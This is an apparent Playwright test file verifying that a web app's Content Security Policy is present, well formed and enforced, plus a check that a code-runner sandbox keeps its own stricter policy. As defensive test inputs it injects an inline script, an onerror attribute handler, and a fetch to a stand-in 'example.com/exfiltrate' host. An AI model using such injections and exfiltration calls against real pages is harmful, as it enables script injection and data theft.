import { expect, test } from './app-test.ts';

test('the built page carries the CSP (meta and header), and it blocks an injected inline script', async ({
  page,
  request,
}) => {
  const response = await page.goto('/');
  const header = response!.headers()['content-security-policy'] ?? '';
  expect(header).toContain("frame-ancestors 'none'");
  expect(header).toContain("script-src 'self' 'wasm-unsafe-eval'");

  const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(meta).toBeTruthy();
  const directives = new Map(
    meta!.split(';').map((d) => {
      const [name, ...sources] = d.trim().split(/\s+/);
      return [name!, sources] as const;
    }),
  );
  expect(directives.get('default-src')).toEqual(["'self'"]);
  expect(directives.get('script-src')).toEqual(["'self'", "'wasm-unsafe-eval'"]);
  expect(directives.get('worker-src')).toEqual(["'self'", 'blob:']);
  expect(directives.get('object-src')).toEqual(["'none'"]);
  expect(directives.get('connect-src')).toEqual(
    expect.arrayContaining([
      "'self'",
      'https://api.openai.com',
      'https://api.anthropic.com',
      'https://generativelanguage.googleapis.com',
      'https://huggingface.co',
      'https://raw.githubusercontent.com',
      'http://localhost:*',
      'http://127.0.0.1:*',
    ]),
  );
  // The meta precedes every script of the page, so it governs all of them.
  const order = await page.evaluate(() =>
    [...document.head.children].map((el) =>
      el.matches('meta[http-equiv]') ? 'csp' : el.tagName.toLowerCase(),
    ),
  );
  expect(order.indexOf('csp')).toBeLessThan(order.indexOf('script'));

  // The built HTML, as served, has no inline script at all.
  const html = await (await request.get('/')).text();
  for (const tag of html.match(/<script\b[^>]*>/g) ?? []) expect(tag).toMatch(/\ssrc=/);

  const outcome = await page.evaluate(async () => {
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
    const script = document.createElement('script');
    script.textContent = 'window.__inlineRan = true;';
    document.head.append(script);
    const handler = document.createElement('img');
    handler.setAttribute('onerror', 'window.__handlerRan = true');
    handler.src = 'data:,not-an-image';
    document.body.append(handler);
    let fetchError = '';
    try {
      await fetch('https://example.com/exfiltrate');
    } catch (error) {
      fetchError = String(error);
    }
    await new Promise((r) => setTimeout(r, 300));
    const w = window as { __inlineRan?: boolean; __handlerRan?: boolean };
    return { ran: w.__inlineRan ?? false, handlerRan: w.__handlerRan ?? false, violations, fetchError };
  });
  expect(outcome.ran).toBe(false);
  expect(outcome.handlerRan).toBe(false);
  expect(outcome.violations).toContain('script-src-elem');
  expect(outcome.violations).toContain('script-src-attr');
  // A host outside connect-src is refused before anything leaves.
  expect(outcome.violations).toContain('connect-src');
  expect(outcome.fetchError).toMatch(/TypeError/);
});

test('the code-runner sandbox keeps its own policy (no app header on /sandbox/)', async ({ request }) => {
  const response = await request.get('/sandbox/code-runner.html');
  expect(response.ok()).toBe(true);
  expect(response.headers()['content-security-policy']).toBeUndefined();
  expect(await response.text()).toContain("connect-src 'none'");
});
